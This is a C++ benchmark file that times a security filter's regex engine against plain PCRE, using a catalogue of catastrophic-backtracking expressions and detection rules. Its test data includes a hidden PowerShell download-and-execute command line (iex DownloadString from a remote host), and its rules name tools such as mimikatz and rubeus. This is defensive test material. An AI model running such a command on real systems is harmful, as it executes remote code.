// The time of one filter expression's match: for a catalogue of expressions that run away (a match
// ends at the bound of its time) and of expressions that an earlier bound made dear, and for rules
// of the shapes servers send beside plain PCRE on the same value (the same text and options,
// studied for the JIT), as a ratio.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "VarloService/sysfilter/Operators.h"
#include "VarloService/sysfilter/Pattern.h"
#include "tests/support/PlainPcre.h"
#include "tests/support/RuleShapes.h"

namespace {

std::string Accents(size_t length) {
  std::string value = "e";
  while (value.size() + 2 <= length) value += "\u0301";
  return value;
}

// "(?:(?:ab)?){count}" written out: as many optional groups as `count`.
std::string OptionalGroups(int count) {
  std::string text;
  for (int i = 0; i < count; ++i) text += "(?:ab)?";
  return text + "c";
}

struct cCase {
  std::string expression;
  std::string (*value)(size_t length);
};

const std::string& ManyNames() {
  static const std::string names = "(?:" + HostNames(1200) + ")?";
  return names;
}

// Each reads its value over and over: back-references compared at every length of their group,
// with and without regard to case, repeated and counted; nested repeats; a lookahead at every
// step; a repeat read to the end at every start; a counted repeat failing near its count; whole
// character clusters; the same behind an alternation of 1,200 names and behind an assertion
// condition. Then expressions that are quick in PCRE but were dear or refused under an earlier
// bound: conditions, a long counted group.
const std::vector<cCase>& Catalogue() {
  static const std::vector<cCase> cases = {
      {R"(^(a+)\1+b$)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((?i)^(a+)\1+b$)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((a+)\1{2,}b)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((?i)^(.*)\1$)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((\w+)(?:\s+\1){3})", [](size_t n) { return ValueOf("aa", n); }},
      {R"((?:a+)+b)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"(^(\w+\s?)*$)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((.*,){12}x)", [](size_t n) { return ValueOf("a,", n); }},
      {R"((?:(?!x).)*y)", [](size_t n) { return ValueOf("a", n); }},
      {R"((?=(a+))a*b\1)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"(a.*b)", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"(a[a-z]*\d)", [](size_t n) { return ValueOf("a", n); }},
      {R"([ab]{20000}c)", [](size_t n) { return ValueOf(std::string(19999, 'a') + "d", n); }},
      {R"([A-Za-z0-9+/]{40,}==)", [](size_t n) { return ValueOf("QUJD", n); }},
      {R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+!)", [](size_t n) { return ValueOf("+", n); }},
      {R"(\X{2,}!)", Accents},
      {ManyNames() + R"((a{0,900})\1[^a!])", [](size_t n) { return ValueOf("a", n, "!"); }},
      {ManyNames() + R"(.*z.*y.*x)", [](size_t n) { return ValueOf("z y ", n); }},
      {R"((?(?=a)a.*b|c))", [](size_t n) { return ValueOf("a", n, "!"); }},
      {R"((?(?=/admin)/admin/\w+|/login)|^$)", [](size_t n) { return ValueOf("/admin/", n, "x"); }},
      {R"(^(?:a|b)+$|(?(?=x)xy))", [](size_t n) { return ValueOf("ab", n); }},
      {R"((?:a|b){2000})", [](size_t n) { return ValueOf("ab", n); }},
  };
  return cases;
}

const std::string kCommandLine =
    "powershell.exe -NoP -NonI -W Hidden -c \"$s='http://10.0.0.5/a'; $c=New-Object Net.WebClient; "
    "iex $c.DownloadString($s)\" & C:\\Windows\\System32\\cmd.exe /c echo done > C:\\Users\\Public\\out.txt ";
const std::string kProse =
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco. ";

// Rules of other kinds that servers send, each over a long value that holds what it looks for
// at its end.
const std::vector<cCase>& Ordinary() {
  static const std::vector<cCase> cases = {
      {R"((?i)cmd.*/c.*(whoami|net user))", [](size_t n) { return ValueOf(kCommandLine, n, " cmd /c whoami"); }},
      {R"((?i)(iex|invoke-expression).*downloadstring)", [](size_t n) { return ValueOf(kCommandLine, n); }},
      {R"((?i)\b(mimikatz|procdump|psexec|rubeus)\b)", [](size_t n) { return ValueOf(kCommandLine, n, " rubeus.exe"); }},
      {R"((?<name>[^\\]+)$)", [](size_t n) { return ValueOf(kCommandLine, n, "\\x.exe"); }},
      {R"(\w+\.(exe|dll|ps1)\b)", [](size_t n) { return ValueOf(kProse, n, " a.ps1"); }},
      {R"((?i)\b(\w+)\s+\1\b)", [](size_t n) { return ValueOf(kProse, n, " Word word"); }},
      {R"((['"]).*?\1)", [](size_t n) { return "'" + ValueOf(kProse, n - 1, "'"); }},
      {R"([A-Za-z0-9+/]{40,}={0,2})", [](size_t n) { return ValueOf(kProse, n, " QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn=="); }},
      {R"(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})", [](size_t n) { return ValueOf(kProse, n, " 10.0.0.1"); }},
  };
  return cases;
}

// The rule shapes' values: with or without what the rule looks for, at 2 to 128 KiB.
std::string ShapeValueOf(const benchmark::State& state) {
  return ShapeValue(RuleShapes()[state.range(0)], static_cast<size_t>(state.range(1)) * 1024, state.range(2) != 0);
}

void MatchOver(benchmark::State& state, const std::string& expression, const std::string& value) {
  sysfilter::cPattern pattern;
  pattern.Compile(expression, true);
  for (auto _ : state) benchmark::DoNotOptimize(pattern.Match(value.data(), value.size(), nullptr, sysfilter::kOpEl));
}

void MatchInPlainPcre(benchmark::State& state, const std::string& expression, const std::string& value) {
  const cPlainPcre plain(expression);
  int ovector[cPlainPcre::kOvectorSize];
  for (auto _ : state) benchmark::DoNotOptimize(plain.Exec(value, ovector));
}

void BM_Runaway(benchmark::State& state) {
  const cCase& c = Catalogue()[state.range(0)];
  MatchOver(state, c.expression, c.value(static_cast<size_t>(state.range(1))));
  state.SetLabel(c.expression.size() > 60 ? c.expression.substr(c.expression.size() - 60) : c.expression);
}

// Compiled anew before every match, so that each is the expression's first.
void BM_FirstMatch(benchmark::State& state) {
  const std::string expression = OptionalGroups(1000);
  const std::string value = ValueOf("ab", static_cast<size_t>(state.range(0)));
  for (auto _ : state) {
    state.PauseTiming();
    sysfilter::cPattern pattern;
    pattern.Compile(expression, true);
    state.ResumeTiming();
    benchmark::DoNotOptimize(pattern.Match(value.data(), value.size(), nullptr, sysfilter::kOpEl));
  }
  state.SetLabel("first match of 1,000 optional groups");
}

void BM_Ordinary(benchmark::State& state) {
  const cCase& c = Ordinary()[state.range(0)];
  MatchOver(state, c.expression, c.value(static_cast<size_t>(state.range(1))));
  state.SetLabel(c.expression);
}
void BM_OrdinaryInPlainPcre(benchmark::State& state) {
  const cCase& c = Ordinary()[state.range(0)];
  MatchInPlainPcre(state, c.expression, c.value(static_cast<size_t>(state.range(1))));
  state.SetLabel(c.expression);
}

void BM_Shape(benchmark::State& state) {
  MatchOver(state, RuleShapes()[state.range(0)].expression, ShapeValueOf(state));
  state.SetLabel(RuleShapes()[state.range(0)].expression.substr(0, 60));
}
void BM_ShapeInPlainPcre(benchmark::State& state) {
  MatchInPlainPcre(state, RuleShapes()[state.range(0)].expression, ShapeValueOf(state));
  state.SetLabel(RuleShapes()[state.range(0)].expression.substr(0, 60));
}

const long kCatalogueSize = static_cast<long>(Catalogue().size());
const long kOrdinarySize = static_cast<long>(Ordinary().size());
const long kShapes = static_cast<long>(RuleShapes().size());

BENCHMARK(BM_Runaway)->ArgsProduct({benchmark::CreateDenseRange(0, kCatalogueSize - 1, 1), {30000, 120000}})
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_FirstMatch)->Arg(30000)->Arg(120000)->Unit(benchmark::kMillisecond);
BENCHMARK(BM_Ordinary)->ArgsProduct({benchmark::CreateDenseRange(0, kOrdinarySize - 1, 1), {32767, 131072}})
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_OrdinaryInPlainPcre)
    ->ArgsProduct({benchmark::CreateDenseRange(0, kOrdinarySize - 1, 1), {32767, 131072}})
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_Shape)->ArgsProduct({benchmark::CreateDenseRange(0, kShapes - 1, 1), {2, 16, 64, 128}, {1, 0}})
    ->Unit(benchmark::kMillisecond)->MinTime(0.1);
BENCHMARK(BM_ShapeInPlainPcre)->ArgsProduct({benchmark::CreateDenseRange(0, kShapes - 1, 1), {2, 16, 64, 128}, {1, 0}})
    ->Unit(benchmark::kMillisecond)->MinTime(0.1);

// The console table, then the time of each match of the catalogue, and each ordinary match beside
// plain PCRE's.
class cPatternReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    ConsoleReporter::ReportRuns(runs);
    for (const Run& run : runs) {
      const std::string& name = run.run_name.function_name;
      const double milliseconds = run.GetAdjustedCPUTime();  // every run is timed in milliseconds
      if (name == "BM_Runaway" || name == "BM_FirstMatch") {
        m_Catalogue.emplace_back(run.report_label + " over " + LengthOf(run, 1), milliseconds);
      } else if (name == "BM_Ordinary" || name == "BM_OrdinaryInPlainPcre") {
        Beside(run.report_label + " over " + LengthOf(run, 1), name == "BM_Ordinary", milliseconds);
      } else if (name == "BM_Shape" || name == "BM_ShapeInPlainPcre") {
        const std::string with = run.run_name.args.substr(run.run_name.args.rfind('/') + 1) == "1" ? "with" : "without";
        Beside(run.report_label + " over " + LengthOf(run, 1) + " KiB " + with, name == "BM_Shape", milliseconds);
      }
    }
  }
  void Finalize() override {
    ConsoleReporter::Finalize();
    std::printf("\nexpressions that run away or were once dear: time of one match (CPU)\n");
    for (const auto& [key, milliseconds] : m_Catalogue) std::printf("  %-80s %8.2f ms\n", key.c_str(), milliseconds);
    std::printf("\nrules beside plain PCRE: time of one match (CPU)\n");
    for (const std::string& key : m_BesideOrder) {
      const auto& times = m_Beside[key];
      std::printf("  %-80s %8.3f ms  plain %8.3f ms  %6.2f x\n", key.c_str(), times.first, times.second,
                  times.second > 0 ? times.first / times.second : 0.0);
    }
  }

 private:
  // The benchmark's argument at `index` (its first is the row).
  static std::string LengthOf(const Run& run, size_t index) {
    std::string args = run.run_name.args;
    for (size_t i = 0; i < index && args.find('/') != std::string::npos; ++i) args = args.substr(args.find('/') + 1);
    return args.substr(0, args.find('/'));
  }
  void Beside(const std::string& key, bool filter, double milliseconds) {
    if (m_Beside.count(key) == 0) m_BesideOrder.push_back(key);
    (filter ? m_Beside[key].first : m_Beside[key].second) = milliseconds;
  }

  std::vector<std::pair<std::string, double>> m_Catalogue;
  std::map<std::string, std::pair<double, double>> m_Beside;  // filter, plain
  std::vector<std::string> m_BesideOrder;
};

}  // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  cPatternReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();
  return 0;
}
